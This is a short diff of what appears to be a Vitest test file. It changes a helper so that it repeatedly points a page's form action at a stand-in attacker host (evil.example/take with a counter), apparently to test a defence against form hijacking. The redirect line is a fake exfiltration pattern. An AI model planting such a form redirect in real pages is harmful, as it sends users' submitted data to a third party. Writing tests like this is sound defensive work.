@@ -19,8 +19,9 @@ afterEach(() => {
   vi.useRealTimers();
 });
 
+let moves = 0;
 const moveTarget = async (): Promise<void> => {
-  document.querySelector('form')!.setAttribute('action', 'https://evil.example/take');
+  document.querySelector('form')!.setAttribute('action', `https://evil.example/take${++moves}`);
   await vi.advanceTimersByTimeAsync(0);
 };
 const sdkArrives = (): void => {
